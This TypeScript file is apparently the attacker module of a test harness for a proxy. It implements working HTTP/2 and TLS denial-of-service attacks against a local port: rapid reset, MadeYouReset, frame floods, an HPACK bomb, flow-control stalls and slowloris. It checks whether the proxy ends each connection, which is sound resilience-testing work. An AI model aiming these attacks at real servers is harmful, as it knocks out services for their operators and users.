/** Attacks on a proxy over HTTP/2 and TLS, each bounded by what it is told: they run in a thread of their own (attacker.ts). */
import { once } from 'node:events';
import net from 'node:net';
import tls from 'node:tls';
import {
  Flag,
  Frame,
  frame,
  headerBlock,
  literal,
  preface,
  requestHeaders,
  resetStream,
  settings,
  windowUpdate,
} from './raw_http2_client.ts';
import { delay } from './wait_for.ts';

/** What an attack came to. */
export interface AttackResult {
  connections: number;
  /** How many of them the proxy has ended. */
  closed: number;
  sentBytes: number;
}

export interface AttackOrder {
  readonly name: AttackName;
  readonly port: number;
  /** Connections to open at most. */
  readonly connections: number;
  /** Frames, streams or bytes a connection sends at most. */
  readonly amount: number;
}

/** Whoever attacks; `standing` is called when it has all it wants to hold, and it holds that until `leave` resolves. */
export interface AttackCalls {
  standing(): void;
  readonly leave: Promise<void>;
}

type Attack = (attacker: Attacker, order: AttackOrder, calls: AttackCalls) => Promise<void>;

/** The connections of an attack, all without an error nobody hears. */
export class Attacker {
  readonly result: AttackResult = { connections: 0, closed: 0, sentBytes: 0 };
  private readonly port: number;
  private readonly sockets: net.Socket[] = [];

  constructor(port: number) {
    this.port = port;
  }

  async open(): Promise<net.Socket> {
    const socket = net.connect({ host: '127.0.0.1', port: this.port, noDelay: true });
    this.watch(socket);
    await once(socket, 'connect');
    return socket;
  }

  async openTls(alpn: string): Promise<tls.TLSSocket> {
    const socket = tls.connect({
      host: '127.0.0.1',
      port: this.port,
      rejectUnauthorized: false,
      ALPNProtocols: [alpn],
    });
    this.watch(socket);
    await once(socket, 'secureConnect');
    return socket;
  }

  /** An HTTP/2 connection that has sent its preface; what comes back is thrown away. */
  async openHttp2(list: readonly (readonly [number, number])[] = []): Promise<net.Socket> {
    const socket = await this.open();
    socket.resume();
    this.send(socket, Buffer.concat([preface, settings(list)]));
    return socket;
  }

  send(socket: net.Socket, bytes: Buffer): void {
    if (socket.destroyed || !socket.writable) return;
    this.result.sentBytes += bytes.length;
    socket.write(bytes);
  }

  /** Sends a piece after another, each when the one before has left, until `count` or the end of the connection. */
  async pour(socket: net.Socket, count: number, piece: (index: number) => Buffer): Promise<void> {
    for (let i = 0; i < count && !socket.destroyed && socket.writable; i++) {
      const bytes = piece(i);
      this.result.sentBytes += bytes.length;
      if (!socket.write(bytes)) await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {});
      else if (i % 16 === 15) await delay(0);
    }
  }

  /** Waits until the proxy has ended all connections, or for so long. */
  async untilClosed(milliseconds: number): Promise<void> {
    const deadline = performance.now() + milliseconds;
    while (this.result.closed < this.result.connections && performance.now() < deadline) await delay(10);
  }

  end(): void {
    for (const socket of this.sockets) socket.destroy();
  }

  private watch(socket: net.Socket): void {
    this.result.connections++;
    this.sockets.push(socket);
    let over = false;
    const closed = () => {
      if (!over) this.result.closed++;
      over = true;
    };
    socket.on('error', closed);
    socket.on('end', closed);
    socket.on('close', closed);
  }
}

/** Frames of one kind on each connection, many a write, until the proxy has enough. */
function flood(make: (index: number) => Buffer, begin: Buffer = Buffer.alloc(0), together = 500): Attack {
  return async (attacker, { connections, amount }) => {
    await each(connections, async () => {
      const socket = await attacker.openHttp2();
      attacker.send(socket, begin);
      await attacker.pour(socket, Math.ceil(amount / together), (index) =>
        Buffer.concat(Array.from({ length: together }, (_, i) => make(index * together + i))),
      );
    });
    await attacker.untilClosed(3000);
  };
}

/** Opens connections, some at a time, does something with each, and holds them. */
function hold(begin: (attacker: Attacker) => Promise<void>): Attack {
  return async (attacker, { connections }, calls) => {
    for (let opened = 0; opened < connections; opened += 50) {
      await each(Math.min(50, connections - opened), () => begin(attacker));
    }
    calls.standing();
    await calls.leave;
  };
}

async function each(count: number, work: () => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: count }, () => work().catch(() => {})));
}

const post = requestHeaders(1, [], { method: 'POST', endStream: false });
const ping = frame(Frame.Ping, 0, 0, Buffer.alloc(8));
const priority = frame(Frame.Priority, 0, 5, Buffer.from([0, 0, 0, 0, 16]));
const request = headerBlock([
  [':method', 'GET'],
  [':scheme', 'http'],
  [':authority', 'test'],
  [':path', '/'],
]);
/** A field of 3,900 bytes into the table, then references to it of one byte each: 16 MB from 8 KB. */
const bomb = Buffer.concat([
  request,
  Buffer.from([0x40]),
  literal('x-bomb'),
  literal('v'.repeat(3900)),
  Buffer.alloc(4000, 0xbe),
]);

export const attacks = {
  'rapid reset': flood((i) => Buffer.concat([requestHeaders(2 * i + 1), resetStream(2 * i + 1)]), undefined, 50),
  MadeYouReset: flood(
    (i) =>
      Buffer.concat([
        requestHeaders(2 * i + 1, [['content-length', '1']], { method: 'POST', endStream: false }),
        frame(Frame.Data, 0, 2 * i + 1, 'too long'),
      ]),
    undefined,
    50,
  ),
  PING: flood(() => ping),
  SETTINGS: flood(() => settings()),
  PRIORITY: flood(() => priority),
  WINDOW_UPDATE: flood(() => windowUpdate(0, 1)),
  'empty DATA': flood(() => frame(Frame.Data, 0, 1), post),
  'DATA of one byte': flood(() => frame(Frame.Data, 0, 1, 'a'), post),
  'unknown frames': flood(() => frame(0x99, 0, 0)),
  'CONTINUATION, empty': flood(() => frame(Frame.Continuation, 0, 1), frame(Frame.Headers, Flag.EndStream, 1, request)),
  'CONTINUATION, full': flood(
    () => frame(Frame.Continuation, 0, 1, headerBlock([['x-a', 'v'.repeat(16_000)]])),
    frame(Frame.Headers, Flag.EndStream, 1, request),
    1,
  ),
  'HPACK bomb': flood((i) => frame(Frame.Headers, Flag.EndStream | Flag.EndHeaders, 2 * i + 1, bomb), undefined, 1),
  'PRIORITY after many streams': async (attacker, { connections, amount }) => {
    await each(connections, async () => {
      const socket = await attacker.openHttp2();
      await attacker.pour(socket, 2000 / 20, (index) => {
        const streams = Array.from({ length: 20 }, (_, i) => requestHeaders(2 * (index * 20 + i) + 1));
        return Buffer.concat(streams);
      });
      await delay(300);
      await attacker.pour(socket, Math.ceil(amount / 500), () => Buffer.concat(Array(500).fill(priority)));
    });
    await attacker.untilClosed(3000);
  },
  'window never opened': async (attacker, { connections, amount }, calls) => {
    await each(connections, async () => {
      const socket = await attacker.openHttp2([[4, 0]]);
      const streams = Array.from({ length: amount }, (_, i) => requestHeaders(2 * i + 1, [], { path: '/large' }));
      attacker.send(socket, Buffer.concat(streams));
    });
    calls.standing();
    await calls.leave;
  },
  'socket never read': async (attacker, { connections }, calls) => {
    await each(connections, async () => {
      const socket = await attacker.open();
      socket.pause();
      const wide = settings([[4, 0x7fff_ffff]]);
      const streams = Array.from({ length: 100 }, (_, i) => requestHeaders(2 * i + 1, [], { path: '/large' }));
      attacker.send(socket, Buffer.concat([preface, wide, windowUpdate(0, 0x7000_0000), ...streams]));
    });
    calls.standing();
    await calls.leave;
  },
  'idle HTTP/2': hold(async (attacker) => {
    const socket = await attacker.openHttp2();
    attacker.send(socket, requestHeaders(1));
  }),
  'idle TLS': hold(async (attacker) => {
    const socket = await attacker.openTls('http/1.1');
    socket.resume();
    attacker.send(socket, Buffer.from('GET / HTTP/1.1\r\nhost: test\r\n\r\n'));
  }),
  'half a TLS handshake': hold(async (attacker) => {
    const socket = await attacker.open();
    socket.resume();
    attacker.send(socket, Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]));
  }),
  'slowloris on TLS': hold(async (attacker) => {
    const socket = await attacker.openTls('http/1.1');
    socket.resume();
    drip(attacker, socket);
  }),
  'slowloris on HTTP/2': hold(async (attacker) => {
    const socket = await attacker.openHttp2();
    const [head] = [frame(Frame.Headers, Flag.EndStream, 1, request)];
    attacker.send(socket, head.subarray(0, 20));
  }),
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;

/** A byte of a head at a time. */
function drip(attacker: Attacker, socket: net.Socket): void {
  let sent = 0;
  const timer = setInterval(() => {
    if (socket.destroyed) clearInterval(timer);
    else attacker.send(socket, Buffer.from(sent++ === 0 ? 'GET / HTTP/1.1\r\nx: ' : 'a'));
  }, 500);
  socket.on('close', () => clearInterval(timer));
}
